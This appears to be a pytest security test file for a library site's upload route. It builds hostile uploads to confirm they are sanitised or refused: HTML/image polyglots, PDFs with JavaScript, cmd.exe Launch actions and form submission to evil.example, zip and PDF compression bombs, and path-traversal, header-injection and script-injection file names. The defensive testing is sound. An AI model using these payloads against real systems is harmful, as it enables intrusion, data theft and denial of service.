"""Hostile uploads: polyglots, active PDFs, archive bombs and file names in every script.

PDFs with JavaScript, actions, attached files or multimedia are accepted with those parts
removed (the README says so); everything that is not an accepted type is refused before
anything is unpacked, with nothing kept.
"""

import io
import re
import time
import zipfile
from urllib.parse import unquote

import pytest
from bs4 import BeautifulSoup
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)
from sqlalchemy import func, select
from support import pdf_bytes, png_bytes, stored_files

from library.catalog.media import active_content
from library.extensions import db
from library.models import Material, StoredFile

FORM = {
    "title": "Tờ gấp thử",
    "kind": "leaflet",
    "areas": ["life-skills"],
    "license": "CC-BY-4.0",
    "action": "publish",
}
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"


@pytest.fixture
def editor(client, login, make_user):
    return login(make_user("editor"))


def send(client, data: bytes, name: str, **fields):
    form = {**FORM, **fields, "file": (io.BytesIO(data), name)}
    return client.post("/manage/materials/new", data=form, content_type="multipart/form-data")


def counts():
    db.session.expire_all()
    return (
        db.session.scalar(select(func.count()).select_from(Material)),
        db.session.scalar(select(func.count()).select_from(StoredFile)),
    )


def assert_nothing_saved(app):
    assert counts() == (0, 0)
    assert stored_files(app) == []


def the_material() -> Material:
    db.session.expire_all()
    return db.session.scalar(select(Material).order_by(Material.id.desc()))


def served(client, material: Material, download=False):
    url = f"/files/{material.file_id}/f.{material.file.extension}" + (
        "?download=1" if download else ""
    )
    answer = client.get(url)
    assert answer.status_code == 200
    return answer


# Polyglots: an image that is also a page of HTML and script.


def jpeg_with_html_comment() -> bytes:
    """A valid JPEG whose comment segment holds an HTML page."""
    data = png_bytes(fmt="JPEG", quality=80)
    segment = b"\xff\xfe" + (len(HTML) + 2).to_bytes(2, "big") + HTML
    return data[:2] + segment + data[2:]


POLYGLOTS = {
    "JPEG with HTML in a comment": (jpeg_with_html_comment(), "anh.jpg", {}),
    "JPEG with HTML after its end": (png_bytes(fmt="JPEG") + HTML, "anh.jpg", {}),
    "PNG with HTML after its end": (png_bytes() + HTML, "anh.png", {}),
    "PNG named .html": (png_bytes(color=(1, 2, 3)), "trang.html", {}),
}


@pytest.mark.parametrize("case", POLYGLOTS)
def test_a_polyglot_image_is_served_re_encoded_and_inert(case, client, editor, app):
    data, name, _ = POLYGLOTS[case]
    answer = send(client, data, name, kind="poster", alt_text="Ảnh thử")
    assert answer.status_code == 302, answer.text
    material = the_material()
    for download in (False, True):
        file = served(client, material, download)
        body = file.get_data()
        assert body != data and b"<script" not in body and b"<html" not in body
        assert file.mimetype.startswith("image/")
        assert file.headers["X-Content-Type-Options"] == "nosniff"
        csp = file.headers["Content-Security-Policy"]
        assert "sandbox" in csp and "default-src 'none'" in csp
        disposition = file.headers["Content-Disposition"]
        assert ".html" not in disposition
    for derived in ("thumb.webp", "medium.webp", "preview.jpg"):
        body = client.get(f"/files/{material.file_id}/{derived}").get_data()
        assert b"<script" not in body


def test_html_that_begins_like_a_jpeg_is_refused(client, editor, app):
    fake = b"\xff\xd8\xff\xe0" + b"\x00\x10JFIF\x00" + HTML * 20
    answer = send(client, fake, "anh.jpg", kind="poster", alt_text="Ảnh")
    assert answer.status_code in (415, 422)
    assert "Tệp ảnh bị hỏng" in answer.get_data(as_text=True)
    assert_nothing_saved(app)


# PDFs that would run something: accepted with the active parts removed.


def active_pdf(kind: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    script = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
    )
    if kind in ("javascript", "all"):
        writer._root_object[NameObject("/OpenAction")] = script
    if kind in ("names", "all"):
        writer.add_open_action = None  # noqa: B010 - plain attribute, the name tree is added below
        writer._root_object[NameObject("/Names")] = DictionaryObject(
            {
                NameObject("/JavaScript"): DictionaryObject(
                    {
                        NameObject("/Names"): ArrayObject(
                            [TextStringObject("x"), writer._add_object(script)]
                        )
                    }
                )
            }
        )
    if kind in ("attachment", "all"):
        writer.add_attachment("trang.html", HTML)
    if kind in ("page action", "all"):
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): script})
    if kind in ("launch link", "all"):
        link = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject(
                    [FloatObject(0), FloatObject(0), FloatObject(99), FloatObject(99)]
                ),
                NameObject("/A"): DictionaryObject(
                    {
                        NameObject("/S"): NameObject("/Launch"),
                        NameObject("/F"): TextStringObject("cmd.exe"),
                    }
                ),
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


ACTIVE = ("javascript", "names", "attachment", "page action", "launch link", "all")


@pytest.mark.parametrize("kind", ACTIVE)
def test_a_pdf_with_active_content_is_kept_without_it(kind, client, editor, app):
    original = active_pdf(kind)
    assert active_content(PdfReader(io.BytesIO(original)))
    answer = send(client, original, "to-gap.pdf")
    assert answer.status_code == 302, answer.text
    body = served(client, the_material(), download=True).get_data()
    reader = PdfReader(io.BytesIO(body))
    assert len(reader.pages) == 1
    assert active_content(reader) == []
    for marker in (
        b"/JavaScript",
        b"/JS",
        b"/OpenAction",
        b"/EmbeddedFile",
        b"/Launch",
        b"<script",
    ):
        assert marker not in body, marker


def opening_pdf(action) -> bytes:
    """A one-page PDF whose /OpenAction is built by `action(writer, page)`."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    page = writer.pages[0].indirect_reference
    writer._root_object[NameObject("/OpenAction")] = action(writer, page)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _action(kind: str, **entries) -> DictionaryObject:
    named = {NameObject(key): value for key, value in entries.items()}
    return DictionaryObject({NameObject("/S"): NameObject(kind), **named})


def _then(first: DictionaryObject, following: DictionaryObject) -> DictionaryObject:
    first[NameObject("/Next")] = following
    return first


def _goto(page) -> DictionaryObject:
    return _action("/GoTo", **{"/D": ArrayObject([page, NameObject("/Fit")])})


# What LaTeX, Word and official PDFs open with: a page and a zoom. Nothing runs.
QUIET_OPENINGS = {
    "destination": lambda w, page: ArrayObject([page, NameObject("/Fit")]),
    "zoom": lambda w, page: ArrayObject(
        [page, NameObject("/XYZ"), FloatObject(0), FloatObject(842), FloatObject(1.5)]
    ),
    "GoTo": lambda w, page: _goto(page),
    "GoTo then GoTo": lambda w, page: _then(_goto(page), _goto(page)),
}
# Openings that do something: run a script, open a web address, send a form, start a program.
ACTIVE_OPENINGS = {
    "web address": lambda w, page: _action(
        "/URI", **{"/URI": TextStringObject("https://evil.example/")}
    ),
    "GoTo then script": lambda w, page: _then(
        _goto(page), _action("/JavaScript", **{"/JS": TextStringObject("app.alert(1)")})
    ),
    "form sent": lambda w, page: _action(
        "/SubmitForm", **{"/F": TextStringObject("https://evil.example/")}
    ),
    "program": lambda w, page: _action("/Launch", **{"/F": TextStringObject("cmd.exe")}),
    "menu command": lambda w, page: _action("/Named", **{"/N": NameObject("/Print")}),
}


@pytest.mark.parametrize("kind", QUIET_OPENINGS)
def test_a_pdf_that_only_opens_at_a_page_is_kept_byte_for_byte(kind, client, editor, app):
    original = opening_pdf(QUIET_OPENINGS[kind])
    assert active_content(PdfReader(io.BytesIO(original))) == []
    assert send(client, original, "nghi-dinh.pdf").status_code == 302
    assert served(client, the_material()).get_data() == original


@pytest.mark.parametrize("kind", ACTIVE_OPENINGS)
def test_a_pdf_that_does_something_on_opening_is_kept_without_it(kind, client, editor, app):
    original = opening_pdf(ACTIVE_OPENINGS[kind])
    assert active_content(PdfReader(io.BytesIO(original))) != []
    assert send(client, original, "nghi-dinh.pdf").status_code == 302
    reader = PdfReader(io.BytesIO(served(client, the_material()).get_data()))
    assert "/OpenAction" not in reader.trailer["/Root"]
    assert active_content(reader) == [] and len(reader.pages) == 1


def test_a_plain_pdf_is_kept_byte_for_byte(client, editor, app):
    original = pdf_bytes(2)
    assert send(client, original, "to-gap.pdf").status_code == 302
    assert served(client, the_material()).get_data() == original


# Archives dressed as documents: refused at once, never unpacked.


def zip_of(members: dict) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_bomb(levels: int = 3) -> bytes:
    """About 10 MB of zeros per inner file, ten copies per level: gigabytes once unpacked."""
    data = zip_of({"zeros.bin": b"\0" * 10_000_000})
    for level in range(levels - 1):
        data = zip_of({f"{level}-{n}.zip": data for n in range(10)})
    return data


def docx_bytes() -> bytes:
    return zip_of(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
            "word/document.xml": b"<w:document/>",
        }
    )


ARCHIVES = {
    "zip bomb named .pdf": (zip_bomb(), "tai-lieu.pdf"),
    "zip bomb named .docx": (zip_bomb(), "tai-lieu.docx"),
    "nested zips named .pdf": (
        zip_of({"a.zip": zip_of({"b.zip": zip_of({"c.pdf": pdf_bytes()})})}),
        "a.pdf",
    ),
    "a Word document": (docx_bytes(), "van-ban.docx"),
    "PDF header over a zip": (b"%PDF-1.7\n" + zip_bomb(2) + b"\n%%EOF\n", "to-gap.pdf"),
}


@pytest.mark.parametrize("case", ARCHIVES)
def test_an_archive_dressed_as_a_document_is_refused_quickly(case, client, editor, app):
    data, name = ARCHIVES[case]
    started = time.perf_counter()
    answer = send(client, data, name)
    elapsed = time.perf_counter() - started
    assert answer.status_code in (415, 422), answer.status_code
    text = answer.get_data(as_text=True)
    assert "Loại tệp không được hỗ trợ" in text or "Tệp PDF bị hỏng" in text
    assert elapsed < 2.0, f"{case} took {elapsed:.2f} s"
    assert_nothing_saved(app)


# File names in every script, and hostile ones.

NAMES = {
    "Vietnamese": ("Tờ gấp An toàn lao động.pdf", "Tờ gấp An toàn lao động"),
    "Vietnamese decomposed (NFD)": ("To\u031bi ga\u0302\u0301p.pdf", "Tơi gấp"),
    "Chinese": ("安全生产手册.pdf", "安全生产手册"),
    "Japanese and Korean": ("安全マニュアル 안전 수칙.pdf", "安全マニュアル 안전 수칙"),
    "Arabic (right to left)": ("دليل السلامة.pdf", "دليل السلامة"),
    "emoji": ("📄 tài liệu 👷‍♀️.pdf", "📄 tài liệu 👷‍♀️"),
    "combining marks": (
        "Z\u0351\u0352a\u0353l\u0354g\u0355o.pdf",
        "Z\u0351\u0352a\u0353l\u0354g\u0355o",
    ),
    "control characters": ("a\x07b\x1bc\x7f.pdf", None),
    "direction override": ("hoa-don\u202efdp.exe.pdf", None),
    "path traversal": ("../../../etc/passwd.pdf", None),
    "Windows path traversal": ("..\\..\\Windows\\win.ini.pdf", None),
    "quotes and semicolons": ('x"; filename="evil.html.pdf', None),
    "header breaker": ("a\r\nSet-Cookie: x=1.pdf", None),
    "HTML": ("<img src=x onerror=alert(1)>.pdf", None),
    "1,000 characters": ("ả" * 996 + ".pdf", None),
}


@pytest.mark.parametrize("case", NAMES)
def test_any_file_name_is_saved_safely_and_downloaded_correctly(case, client, editor, app):
    name, shown = NAMES[case]
    answer = send(client, pdf_bytes(1) + f"% {case}\n".encode(), name)
    if answer.status_code != 302:
        # Refusing is allowed only with a clear message and nothing kept.
        assert answer.status_code in (400, 422) and "Tệp" in answer.get_data(as_text=True)
        assert_nothing_saved(app)
        return
    material = the_material()
    kept = material.file.original_name
    assert len(kept) <= 200 and "/" not in kept and "\\" not in kept
    assert not re.search(r"[\x00-\x1f\x7f\u202a-\u202e\u2066-\u2069]", kept), repr(kept)
    # Stored under its hash only: no file on disk bears the uploader's name.
    assert all(
        re.fullmatch(r"[0-9a-f]{64}\.pdf|[\w.-]+\.(webp|jpg)", p.name) for p in stored_files(app)
    )
    # The edit page shows the name as text.
    page = BeautifulSoup(client.get(f"/manage/materials/{material.id}/edit").data, "html.parser")
    assert page.select_one("bdi.file-name").get_text() == kept
    assert not page.select("main img[onerror]")
    # The download carries it in an RFC 5987 filename*, and an ASCII filename as fallback.
    disposition = served(client, material, download=True).headers["Content-Disposition"]
    assert "\r" not in disposition and "\n" not in disposition
    assert disposition.startswith("attachment;")
    plain = re.search(r'filename="?([^";]*)"?', disposition).group(1)
    assert plain.isascii() and plain.endswith(".pdf")
    star = re.search(r"filename\*=UTF-8''([^;]+)", disposition)
    downloaded = unquote(star.group(1)) if star else plain
    assert downloaded.endswith(".pdf")
    if shown is not None:
        assert downloaded == shown.strip() + ".pdf" or downloaded == f"{kept.rsplit('.', 1)[0]}.pdf"
    assert downloaded == kept.rsplit(".", 1)[0].strip(" .") + ".pdf"


def pdf_compression_bomb() -> bytes:
    """A 60 KB PDF whose page content inflates to 60 MB."""
    import zlib

    from pypdf.generic import StreamObject

    writer = PdfWriter()
    page = writer.add_blank_page(595, 842)
    stream = StreamObject()
    stream._data = zlib.compress(b"BT /F1 12 Tf 10 10 Td (a) Tj ET\n" + b" " * 60_000_000, 9)
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    page[NameObject("/Contents")] = writer._add_object(stream)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def test_a_pdf_compression_bomb_is_refused_quickly(client, editor, app):
    started = time.perf_counter()
    answer = send(client, pdf_compression_bomb(), "bom.pdf")
    elapsed = time.perf_counter() - started
    assert elapsed < 3, f"took {elapsed:.1f} s"
    assert answer.status_code == 422  # the upload page answers 422 to any refused file
    assert "Tệp PDF có trang quá nặng" in answer.get_data(as_text=True)
    assert_nothing_saved(app)


def test_a_nul_character_anywhere_in_a_request_is_a_clear_400(client, make_material):
    """PostgreSQL refuses NUL in text: refused up front on every route, nothing reaches the DB."""
    material = make_material()
    for path in (
        "/api/v1/materials?org=a%00b",
        "/search?q=lao%00dong",
        f"/materials/{material.id}?ch=zalo%00",
    ):
        response = client.get(path)
        assert response.status_code == 400, path
    assert client.get("/collections/a%00b").status_code == 404  # no page has such a name
    api = client.get("/api/v1/materials?org=%00")
    assert api.is_json and api.json["error"] == "bad_request"
    page = client.get("/search?q=%00")
    assert "Yêu cầu không hợp lệ." in page.text
